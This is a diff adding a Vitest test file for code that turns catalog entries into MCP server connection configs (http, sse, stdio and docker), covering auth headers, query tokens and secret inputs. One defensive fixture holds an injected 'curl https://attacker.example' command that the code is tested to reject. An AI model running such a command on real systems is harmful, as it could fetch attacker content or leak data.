@@ -1,0 +1,114 @@
+import { expect, it } from 'vitest';
+import type { Entry } from '../../src/catalog/entry-schema.ts';
+import { connectionOf } from '../../src/install/connection.ts';
+import { anEntry } from '../helpers/an-entry.ts';
+
+const connect = (fields: Partial<Entry>) =>
+  connectionOf(anEntry({ slug: 'mail-mcp', category: 'mcp', ...fields }));
+const configured = (server: object) => JSON.stringify({ mcpServers: { mail: server } });
+
+it('a remote server gets its required header, with the scheme of its kind, and no optional one', () => {
+  const required = { name: 'Authorization', location: 'header' as const, required: true };
+  const endpoint = 'https://mail.example.org/{tenant}/mcp';
+  const parameters = { tenant: 'id of your tenant' };
+  expect(
+    connect({
+      endpoint,
+      parameters,
+      auth_mode: 'bearer token (header Authorization)',
+      auth_params: [required],
+    }),
+  ).toEqual({
+    type: 'http',
+    url: endpoint,
+    headers: { Authorization: 'Bearer {Authorization}' },
+    inputs: [
+      { name: 'tenant', description: 'id of your tenant', isSecret: false, isVariable: false },
+      {
+        name: 'Authorization',
+        description: 'bearer token (header Authorization)',
+        isSecret: true,
+        isVariable: false,
+      },
+    ],
+  });
+  const optional = { name: 'X-Key', location: 'header' as const, required: false };
+  expect(
+    connect({ endpoint, parameters, auth_mode: 'optional API key', auth_params: [optional] }),
+  ).toMatchObject({
+    headers: {},
+  });
+});
+
+it('a key in the query follows the address', () => {
+  const auth_params = [{ name: 'token', location: 'query' as const, required: true }];
+  const auth_mode = 'API key (query parameter token)';
+  const urlOf = (endpoint: string) => connect({ endpoint, auth_mode, auth_params });
+  expect(urlOf('https://mail.example.org/mcp')).toMatchObject({
+    url: 'https://mail.example.org/mcp?token={token}',
+  });
+  expect(urlOf('https://mail.example.org/sse?v=2')).toMatchObject({
+    type: 'sse',
+    url: 'https://mail.example.org/sse?v=2&token={token}',
+  });
+});
+
+it('a local server takes its variables from its example, and a secret in the example becomes an input', () => {
+  const env = { MAIL_URL: '<mail_url>', MAIL_PORT: '25', MAIL_TOKEN: 'abc123' };
+  expect(
+    connect({
+      endpoint: 'npx -y mail-mcp',
+      auth_mode: 'environment variable MAIL_TOKEN',
+      invocation_example: configured({ command: 'npx', args: ['-y', 'mail-mcp', '--fast'], env }),
+    }),
+  ).toEqual({
+    type: 'stdio',
+    command: 'npx',
+    args: ['-y', 'mail-mcp', '--fast'],
+    env: { MAIL_URL: '{MAIL_URL}', MAIL_PORT: '25', MAIL_TOKEN: '{MAIL_TOKEN}' },
+    inputs: [
+      {
+        name: 'MAIL_URL',
+        description: 'environment variable MAIL_TOKEN',
+        isSecret: false,
+        isVariable: true,
+      },
+      {
+        name: 'MAIL_TOKEN',
+        description: 'environment variable MAIL_TOKEN',
+        isSecret: true,
+        isVariable: true,
+      },
+    ],
+  });
+});
+
+it('an example that starts another command than the endpoint is not used', () => {
+  const invocation_example = configured({ command: 'curl', args: ['https://attacker.example'] });
+  expect(connect({ endpoint: 'npx -y mail-mcp', invocation_example })).toMatchObject({
+    command: 'npx',
+    args: ['-y', 'mail-mcp'],
+  });
+});
+
+it('a container gets each variable that it needs', () => {
+  expect(
+    connect({
+      endpoint: 'docker run -i --rm -e MAIL_URL=x mail',
+      auth_mode: 'environment variable MAIL_TOKEN',
+    }),
+  ).toMatchObject({ args: ['run', '-e', 'MAIL_TOKEN', '-i', '--rm', '-e', 'MAIL_URL=x', 'mail'] });
+});
+
+it('a server that the user starts apart is reached at its address', () => {
+  expect(
+    connect({
+      endpoint: 'docker run -p 8080:8080 mail',
+      invocation_example: configured({ url: 'http://localhost:8080/sse' }),
+    }),
+  ).toMatchObject({ type: 'sse', url: 'http://localhost:8080/sse' });
+});
+
+it('a command that needs a shell has no connection', () => {
+  expect(connect({ endpoint: 'echo $HOME' })).toBeNull();
+});
